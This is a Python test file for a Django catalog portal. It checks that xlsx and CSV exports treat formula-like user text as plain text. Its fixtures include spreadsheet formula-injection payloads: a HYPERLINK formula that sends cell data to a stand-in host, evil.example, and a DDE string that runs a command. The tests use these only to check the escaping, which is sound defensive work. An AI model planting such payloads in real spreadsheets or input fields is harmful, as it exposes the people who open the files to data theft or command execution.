"""Editor text that starts like a formula stays text in every xlsx and csv the portal writes.

Each writer gets ``=HYPERLINK(...)`` (and the other triggers) in free-text fields; the saved
xlsx cell must be a string cell (``data_type "s"``) holding the text unchanged, and a csv
field must carry OWASP's leading quote.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from catalogs.excel import read_catalog_workbook
from catalogs.permissions import SYSTEM
from catalogs.services import region_update_contact
from catalogs.spreadsheets import (
    csv_row,
    csv_safe,
    csv_value_read,
    keep_text_as_text,
    set_text_cell,
)
from items.imports import catalog_export_workbook
from items.services import catalog_publish, item_update
from review.exports import acceptance_report_workbook, city_rollup_workbook
from review.models import Severity
from review.services import acceptance_decide, finding_create
from tests.conftest import localise

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
TRIGGERS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def cells_holding(workbook, text: str):
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == text
    ]


def assert_text_cell(data: bytes, text: str) -> None:
    workbook = load_workbook(io.BytesIO(data))
    found = cells_holding(workbook, text)
    assert found, f"{text!r} not found in the workbook"
    assert all(cell.data_type == "s" for cell in found), [c.data_type for c in found]


# ---------------------------------------------------------------------------
# The helpers
# ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", TRIGGERS)
def test_csv_fields_that_could_run_get_a_quote_and_read_back(text):
    assert csv_safe(text) == "'" + text
    assert csv_value_read(csv_safe(text)) == text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("农安县民政局", "农安县民政局"),
        (-5, "-5"),
        (3.5, "3.5"),
        (None, ""),
        ("'quoted", "'quoted"),
    ],
)
def test_plain_csv_fields_are_unchanged(value, expected):
    assert csv_safe(value) == expected
    assert csv_value_read(expected) == expected


def test_csv_row_round_trips_through_the_csv_module():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row([1, HYPERLINK, "普通文字"]))
    (row,) = csv.reader(io.StringIO(buffer.getvalue()))
    assert row == ["1", "'" + HYPERLINK, "普通文字"]
    assert [csv_value_read(value) for value in row] == ["1", HYPERLINK, "普通文字"]


@pytest.mark.parametrize("text", TRIGGERS)
def test_set_text_cell_and_keep_text_as_text_store_strings(text):
    workbook = Workbook()
    sheet = workbook.active
    set_text_cell(sheet["A1"], text)
    sheet.append([None, text])  # as review exports fill sheets
    assert sheet["B2"].data_type == "f" or not text.startswith("=")
    keep_text_as_text(sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    saved = load_workbook(io.BytesIO(buffer.getvalue())).active
    for ref in ("A1", "B2"):
        assert saved[ref].data_type == "s"
        assert saved[ref].value == text.replace("\r", "\n")  # XML keeps no bare CR


# ---------------------------------------------------------------------------
# Every writer
# ---------------------------------------------------------------------------


@pytest.fixture
def hostile_catalog(catalogs, users):
    catalog = localise(catalogs.nongan_social)
    first, second = catalog.items.order_by("seq")[:2]
    item_update(actor=users.county_editor, item=first, basis=HYPERLINK, deadline="@SUM(1,2)")
    item_update(actor=users.county_editor, item=second, subject="-2+3")
    return catalog


def test_official_table_export_keeps_formulas_as_text(hostile_catalog):
    data = catalog_export_workbook(hostile_catalog)
    for text in (HYPERLINK, "@SUM(1,2)", "-2+3"):
        assert_text_cell(data, text)
    # …and the text comes back unchanged when the file is imported again.
    table = read_catalog_workbook(data)
    assert table.rows[0].basis == HYPERLINK
    assert table.rows[1].subject == "-2+3"


def test_city_rollup_keeps_formulas_as_text(all_published, regions, users):
    region_update_contact(
        actor=SYSTEM,
        region=regions.nongan,
        office_name=HYPERLINK,
        contact_name="@张三",
        contact_phone="+86-431-83222222",
        contact_email="nongan@example.cn",
    )
    item = all_published.nongan_social.items.order_by("seq").first()
    item_update(actor=users.county_editor, item=item, basis=HYPERLINK)
    catalog_publish(actor=SYSTEM, catalog=all_published.nongan_social, note="更新")
    data = city_rollup_workbook(regions.changchun)
    for text in (HYPERLINK, "@张三", "+86-431-83222222"):
        assert_text_cell(data, text)


def test_acceptance_report_keeps_formulas_as_text(accepting, users):
    finding_create(
        actor=users.reviewer,
        catalog=accepting,
        severity=Severity.WARNING,
        description=HYPERLINK,
        required_fix="=1+1",
        due_on=timezone.localdate() + timedelta(days=5),
    )
    decision = acceptance_decide(
        actor=users.reviewer, catalog=accepting, decision="return", note=HYPERLINK
    )
    data = acceptance_report_workbook(decision)
    for text in (HYPERLINK, "=1+1"):
        assert_text_cell(data, text)


def test_public_downloads_keep_formulas_as_text(client, hostile_catalog):
    catalog_publish(actor=SYSTEM, catalog=hostile_catalog, note="发布")
    xlsx = client.get(reverse("site:catalog_download", args=[hostile_catalog.pk, "xlsx"]))
    assert xlsx.status_code == 200
    assert_text_cell(xlsx.content, HYPERLINK)
    response = client.get(reverse("site:catalog_download", args=[hostile_catalog.pk, "csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'" + HYPERLINK in rows[1]
    assert "'@SUM(1,2)" in rows[1]


def test_admin_export_of_the_draft_keeps_formulas_as_text(client, login, hostile_catalog, users):
    login(users.county_editor)
    response = client.get(reverse("admin:catalogs_catalog_export", args=[hostile_catalog.pk]))
    assert response.status_code == 200
    assert_text_cell(response.content, HYPERLINK)
